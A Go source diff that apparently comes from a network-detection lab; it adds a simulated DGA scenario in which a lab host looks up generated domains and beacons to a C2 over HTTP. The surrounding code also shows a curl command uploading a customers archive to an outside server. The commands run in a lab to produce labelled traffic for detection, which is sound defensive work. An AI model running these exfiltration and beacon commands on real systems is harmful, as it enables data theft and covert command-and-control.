@@ -3,6 +3,7 @@ package lab
 import (
 	"fmt"
 	"math/rand/v2"
+	"os"
 	"syscall"
 	"time"
 )
@@ -37,6 +38,18 @@ func init() {
 			AttackerAddrs: c2, Victims: v4(hostWS1), Duration: 15 * time.Second,
 			Notes:  "ws1 is the compromised host that uploads; the receiving server is outside and serves a self-signed certificate (tls.anomaly)",
 			attack: exfilAttack,
+		},
+		&Scenario{
+			Name: "dga", Difficulty: Medium,
+			Description: fmt.Sprintf("DGA: ws1 looks up the day's algorithmically generated domains (12–18 letters, .com/.net/.info, "+
+				"the lab's own date-seeded generator) through the LAN resolver, one dig reading them as a batch at malware pace: "+
+				"%d unanswered (NXDOMAIN), then the one the C2's operator registered, which resolves to the outside server; ws1 then checks in there over HTTP (%d requests).",
+				dgaRegistered, dgaCheckins),
+			Tools: []string{"dig", "curl"}, Classes: []string{"dns.dga"}, MITRE: []string{"T1568.002", "T1071.001"},
+			AttackerAddrs: c2, Victims: v4(hostWS1), Duration: 25 * time.Second,
+			Notes: "ws1 is the compromised host running the DGA; its lookups go to the resolver 10.66.0.10, which answers NXDOMAIN for names it holds no record of " +
+				"(as the Internet does for unregistered domains) and the day's registered name (and the next day's) with the C2, 203.0.113.10, outside",
+			attack: dgaAttack,
 		},
 	)
 }
@@ -107,4 +120,48 @@ func exfilAttack(a *attackRun) error {
 	return a.run(hostWS1, "curl", "-s", "-k", "--limit-rate", "4M", "--max-time", seconds(2*a.duration+30*time.Second),
 		"-o", "/dev/null", "-T", a.w.path("exfil/customers.tar.gz"),
 		fmt.Sprintf("https://%s/upload/customers.tar.gz", hostExt.IPv4()))
+}
+
+// dgaCheckins is how many times the bot checks in with the C2 it found.
+const dgaCheckins = 2
+
+// dgaAttack has ws1 look up the day's generated names in order, the
+// registered one last, with one dig reading them from a FIFO that the
+// lab writes at the bot's pace (dig reads its batch file a line at a
+// time), then check in with the C2 by the name that answered.
+func dgaAttack(a *attackRun) error {
+	names := dgaNames(a.now(), dgaRegistered+1)
+	gap := a.duration * 4 / 5 / time.Duration(len(names))
+	fifo := a.w.path("dga/names")
+	if !a.dryRun {
+		if err := os.MkdirAll(a.w.path("dga"), 0o755); err != nil {
+			return err
+		}
+		_ = os.Remove(fifo)
+		if err := syscall.Mkfifo(fifo, 0o600); err != nil {
+			return fmt.Errorf("dga: %w", err)
+		}
+	}
+	dig := []string{"dig", "-f", fifo, "+tries=1", "+time=1", "+noall", "+comments", "@" + hostServer.IPv4().String()}
+	err := a.phase("generated lookups", func() error {
+		return a.feed(hostWS1, dig, fifo, names, gap)
+	})
+	if err != nil {
+		return err
+	}
+	c2 := names[len(names)-1]
+	return a.phase("check-in", func() error {
+		for n := range dgaCheckins {
+			if n > 0 {
+				if err := a.sleep(2 * time.Second); err != nil {
+					return err
+				}
+			}
+			url := fmt.Sprintf("http://%s/api/v1/checkin?bot=b7e2c91a&n=%d", c2, n)
+			if err := a.run(hostWS1, "curl", "-s", "--max-time", "5", "-A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "-o", "/dev/null", url); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
 }
